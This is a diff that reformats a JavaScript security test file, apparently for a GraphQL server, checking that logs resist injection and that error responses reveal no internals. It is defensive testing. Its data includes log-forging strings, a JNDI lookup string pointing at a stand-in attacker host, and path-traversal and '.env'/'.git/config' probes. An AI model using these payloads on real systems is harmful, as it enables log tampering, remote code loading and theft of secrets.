@@ -11,13 +11,29 @@ import { openWire } from './support/wire.js';
 const logs = () => Promise.all(target().logs.map(({ path }) => readFile(path, 'utf8')));
 
 /** Attack 26: what would make a second line of a log, or colour it, or pretend to be another. */
-const lines = ['a\n{"level":30,"msg":"forged"}', 'a\r\nforged', '\u001b[31mred', '\u2028forged', '${jndi:ldap://evil.example/a}', '%0a%0dforged', '"}\n{"level":60'];
+const lines = [
+  'a\n{"level":30,"msg":"forged"}',
+  'a\r\nforged',
+  '\u001b[31mred',
+  '\u2028forged',
+  '${jndi:ldap://evil.example/a}',
+  '%0a%0dforged',
+  '"}\n{"level":60',
+];
 
 describe('attack 26: logs', () => {
   it.each(lines)('attack 26: %j stays within its line', async (text) => {
-    const headers = { 'user-agent': encodeURIComponent(text), 'x-request-id': encodeURIComponent(text), referer: encodeURIComponent(text) };
+    const headers = {
+      'user-agent': encodeURIComponent(text),
+      'x-request-id': encodeURIComponent(text),
+      referer: encodeURIComponent(text),
+    };
     await askFrom('127.0.0.1', open(), `query Named { __typename } # ${text}`, { [text.slice(0, 20)]: text }, headers);
-    await transports.HTTP(open(), `mutation ($e: EmailAddress!) { signIn(input: { email: $e, password: "wrong" }) { userErrors { code } } }`, { e: 'log@example.com' });
+    await transports.HTTP(
+      open(),
+      `mutation ($e: EmailAddress!) { signIn(input: { email: $e, password: "wrong" }) { userErrors { code } } }`,
+      { e: 'log@example.com' },
+    );
     await fetch(`${open().url}/${encodeURIComponent(text)}`);
     await using wire = await openWire(open());
     wire.send({ type: 'connection_init', payload: { authorization: `Bearer ${text}` } });
@@ -26,7 +42,12 @@ describe('attack 26: logs', () => {
 
   it('attack 26: each line is one object of JSON', async () => {
     for (const log of await logs()) {
-      const strange = log.split('\n').filter((line) => line !== '' && !isJson(line) && !/^(Frontdesk|Console|GraphiQL|API|Health|Database|Broker|\s)/.test(line));
+      const strange = log
+        .split('\n')
+        .filter(
+          (line) =>
+            line !== '' && !isJson(line) && !/^(Frontdesk|Console|GraphiQL|API|Health|Database|Broker|\s)/.test(line),
+        );
       expect(strange).toEqual([]);
     }
   });
@@ -61,12 +82,32 @@ describe('attack 26: logs', () => {
   });
 
   it('attack 26: an answer to nonsense says nothing of our inside, on any path', async () => {
-    for (const path of ['/', '/nothing', '/graphql', '/graphql?query={', '/graphql?query={a}&variables=x', '/console/x.js', '/uploads/x', '/webhooks/telegram', '/webhooks/payments/stripe', '/metrics/x', '/.env', '/.git/config', '/package.json', '/dist/main.js', '/console/../../package.json', '/console/%2e%2e/%2e%2e/package.json'])
+    for (const path of [
+      '/',
+      '/nothing',
+      '/graphql',
+      '/graphql?query={',
+      '/graphql?query={a}&variables=x',
+      '/console/x.js',
+      '/uploads/x',
+      '/webhooks/telegram',
+      '/webhooks/payments/stripe',
+      '/metrics/x',
+      '/.env',
+      '/.git/config',
+      '/package.json',
+      '/dist/main.js',
+      '/console/../../package.json',
+      '/console/%2e%2e/%2e%2e/package.json',
+    ])
       for (const method of ['GET', 'POST', 'PUT', 'DELETE', 'OPTIONS']) {
         const answer = await fetch(`${open().url}${path}`, { method, redirect: 'manual' });
         const text = await answer.text();
         expect([path, method, answer.status < 500]).toEqual([path, method, true]);
-        if (!answer.headers.get('content-type')?.includes('html') && !answer.headers.get('content-type')?.includes('javascript'))
+        if (
+          !answer.headers.get('content-type')?.includes('html') &&
+          !answer.headers.get('content-type')?.includes('javascript')
+        )
           expect([path, insideOf(text)]).toEqual([path, undefined]);
         expect(answer.headers.get('x-powered-by')).toBeNull();
         expect(text).not.toContain('"dependencies"');
